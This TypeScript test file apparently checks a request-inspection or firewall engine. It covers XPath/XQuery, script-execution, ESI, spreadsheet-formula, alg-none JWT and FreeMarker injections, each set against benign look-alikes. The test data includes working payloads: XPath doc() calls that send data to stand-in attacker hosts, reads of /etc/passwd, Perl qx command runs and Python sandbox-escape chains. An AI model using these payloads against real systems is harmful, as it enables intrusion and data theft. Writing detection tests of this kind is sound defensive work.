// Injection classes the corpus barely holds, sent the way other tools phrase them
// (test/support/variants/script-probes.ts): XPath axis steps and unions after a closed predicate;
// script code that prints a computation or runs a command (Perl, Python, Ruby, PHP, ASP); edge-side
// includes; spreadsheet formula injection; JSON Web Tokens with alg none. Benign look-alikes pass.
import fc from "fast-check";
import { expect, it } from "vitest";
import { placed } from "../support/variants/positions.js";
import { describeFamily } from "../support/variants/check.js";
import { inspect } from "../support/engine.js";
import { xpathAxis, xpathUnion, xpathBenign, computeProbe, scriptExec, scriptBenign, esiTag, formulaInjection, formulaBenign, jwtNone, jwtBenign } from "../support/variants/script-probes.js";

const host: [string, string] = ["host", "svc.local"];
const ids = (h: Parameters<typeof inspect>[0], v: string) => inspect(h, { path: `/f?q=${encodeURIComponent(v)}`, headers: [host] }).matches.map((m) => m.id);

describeFamily("XPath injection", {
  blocks: [
    ["an axis step in a call, a comparison or alone", placed(xpathAxis, ["query", "form", "json", "cookie", "header"]), 300],
    ["a union after a closed literal and predicate", placed(xpathUnion, ["query", "form", "json", "cookie", "header"]), 300],
  ],
  passes: [["code with `::`, IPv6, tables and prose about XPath", placed(xpathBenign, ["query", "form", "json", "cookie"]), 300]],
}, (h) => {
  it("reports XPath (17005) for every generated shape", () => {
    for (const gen of [xpathAxis, xpathUnion]) {
      for (const v of fc.sample(gen, { seed: 11, numRuns: 40 })) expect(ids(h(), v), v).toContain(17005);
    }
  });
  it("reports a document fetched from a URL (XPath 2, XQuery: an SSRF)", () => {
    for (const v of ["doc('http://attacker.example/x.xml')", "doc(concat('http://evil.example/',name()))", "fn:doc( \"https://a.example/\" )",
      "' or doc('http://a.example/')/x='1", "unparsed-text('file:///etc/hostname')", "fn:json-doc('gopher://10.0.0.1:70/x')"]) {
      expect(ids(h(), v), v).toContain(17005);
    }
    for (const v of ["doc(db, 'users', id)", "mydoc('http://x.example/')", "see the doc (http://example.com/)", "user.doc('http://a.example/')", "doc('README.md')"]) {
      expect(ids(h(), v), v).not.toContain(17005);
    }
  });
  it("leaves what only looks like XPath to other rules or none", () => {
    for (const v of ["use super::*;", "http://[::1]:8080/", "'x' | //comment", "a'] | b", "see child::para", "The path /a/b/text() is shown", "'] | /regex/",
      "managed with [Dist::Zilla](https://metacpan.org/pod/Dist::Zilla).", "PATH=/usr/bin::/bin valgrind foobar", "see /docs/Foo::Bar::Baz"]) {
      expect(ids(h(), v), v).not.toContain(17005);
    }
  });
});

describeFamily("script code that computes or runs a command", {
  blocks: [
    ["an output statement of a computation or a backtick command", placed(computeProbe, ["query", "form", "json", "cookie", "header"]), 400],
    ["eval request(, Response.Write(, Python module calls, qx and %x", placed(scriptExec, ["query", "form", "json", "cookie", "header"]), 400],
  ],
  passes: [["prose that prints, echoes, evaluates requests and names os.system", placed(scriptBenign, ["query", "form", "json", "cookie"]), 300]],
}, (h) => {
  it("reports script code (4313) for every generated shape", () => {
    for (const gen of [computeProbe, scriptExec]) {
      for (const v of fc.sample(gen, { seed: 13, numRuns: 60 })) expect(ids(h(), v), v).toContain(4313);
    }
  });
  it("needs a statement start, a statement end after the computation, a request object, a string argument", () => {
    for (const v of ["Please print 2*3 copies", "(print 2*3 copies)", "eval requests are queued", "Eval request from the team", "Call os.system() only", "__import__ is a builtin", "50% x(2)", "qx100 (qx)", "0x%x(%d)"]) {
      expect(ids(h(), v), v).not.toContain(4313);
    }
  });
  it("starts a statement at a `.` only after a quote or a list of strings (PHP concatenation), not after a word or number", () => {
    for (const v of ["'.print(1337*1337).'", "\".print(1337*1337).\"", "x'].print(1337*1337).'", "[\"a\"].print(1337*1337);"]) expect(ids(h(), v), v).toContain(4313);
    for (const v of ["Step 3.print 1337*1337 copies", "see 1.print(1337*1337) now", "a.print(1337*1337);", "x[0].print(1337*1337);"]) expect(ids(h(), v), v).not.toContain(4313);
  });
  it("reads Perl's qx literal as an output statement's command, like a backtick", () => {
    for (const v of ["print qx(id)", ";print qx{uname -a};", "';print QX[cat /etc/passwd];'", "say qx|whoami|", "echo qx!ls!"]) expect(ids(h(), v), v).toContain(4313);
    for (const v of ["print qx for the queue", "please print qx(2) copies", "print qx (id)", "print qx(1)", "say qxl(id)", "Tip: print qx: the docs", "Please print qx(id) in Perl"]) {
      expect(ids(h(), v), v).not.toContain(4313);
    }
  });
  it("reports a Python dunder read off an empty literal or by a quoted key off a call, not one on a named object", () => {
    for (const v of ["().__class__.__bases__[0].__subclasses__()", "''.__class__.__mro__[1].__subclasses__()", "x=[].__class__.__base__", "\"\".__class__", "globals()['__builtins__']['eval']('1')"]) {
      expect(ids(h(), v), v).toContain(4313);
    }
    for (const v of ["self.__class__.__name__", "the globals() function returns a dict", "type(x).__mro__", "d['__name__']", "foo().__init__", "items[].__len__", "__init__.py",
      "().__c", "()___a__", "globals()['__x']", "globals()['__name__ is main", "('').__doc__ is empty", "Use ''.join(parts) or print(self.__dict__)"]) {
      expect(ids(h(), v), v).not.toContain(4313);
    }
  });
});

describeFamily("edge-side includes", {
  blocks: [["an <esi:...> tag in any value", placed(esiTag, ["query", "form", "json", "cookie", "header"]), 200]],
}, (h) => {
  it("reports the include directive (4302) for ESI tags and nothing for ESI in prose", () => {
    for (const v of fc.sample(esiTag, { seed: 17, numRuns: 40 })) expect(ids(h(), v), v).toContain(4302);
    for (const v of ["ESI: the edge side includes spec", "<esi>", "mesi:x", "thesis:a proof"]) expect(ids(h(), v), v).not.toContain(4302);
  });
});

describeFamily("spreadsheet formula injection", {
  blocks: [["a DDE link or a fetching call in a value that opens as a formula", placed(formulaInjection, ["query", "form", "json", "cookie", "header"]), 300]],
  passes: [["phone numbers, mentions, negative numbers, rules and sums", placed(formulaBenign, ["query", "form", "json", "cookie"]), 300]],
}, (h) => {
  it("reports formula injection (17006) for every generated shape, and not for a call inside prose", () => {
    for (const v of fc.sample(formulaInjection, { seed: 19, numRuns: 40 })) expect(ids(h(), v), v).toContain(17006);
    for (const v of ["see hyperlink(3) in the doc", "note: =HYPERLINK is a function", "a|'b'!", "=SUM(A1)", "- image(s) attached", "@ann see the hyperlink(s)", "+ call(555) 0100"]) {
      expect(ids(h(), v), v).not.toContain(17006);
    }
  });
});

describeFamily("JSON Web Tokens that declare no signature", {
  blocks: [["an alg-none token in a query, form, JSON value or cookie", placed(jwtNone, ["query", "form", "json", "cookie"]), 200]],
  passes: [["signed tokens, 'none' in claims, words with `ey`", placed(jwtBenign, ["query", "form", "json", "cookie"]), 200]],
}, (h) => {
  it("reports the unsigned token (16004) in an Authorization header too", () => {
    for (const t of fc.sample(jwtNone, { seed: 23, numRuns: 20 })) {
      const v = inspect(h(), { path: "/api", headers: [host, ["authorization", t.startsWith("Bearer ") ? t : "Bearer " + t]] });
      expect(v.matches.map((m) => m.id), t).toContain(16004);
    }
  });
  it("reads only a header-sized run: a long base64 text before a '.' is not a token", () => {
    const pad = Buffer.from(" ".repeat(600)).toString("base64url");
    const long = Buffer.from(JSON.stringify({ alg: "none", pad })).toString("base64url") + "." + Buffer.from("{}").toString("base64url") + ".";
    expect(ids(h(), long)).not.toContain(16004);
  });
});

describeFamily("FreeMarker directives that define, walk or include data", {}, (h) => {
  it("reports them (11004) in either tag syntax, and leaves numbered lists and prose alone", () => {
    for (const v of ["<#list .data_model?keys as k>${k}</#list>", "[#include \"/etc/passwd\"]", "<#assign x=1>", "<#global g=2>", "<#import \"/lib.ftl\" as l>", "<#attempt>x<#recover>y</#attempt>"]) {
      expect(ids(h(), v), v).toContain(11004);
    }
    for (const v of ["Prices <#1 and #2>", "issue [#123] fixed", "<#>", "see #list in the docs"]) expect(ids(h(), v), v).not.toContain(11004);
  });
});
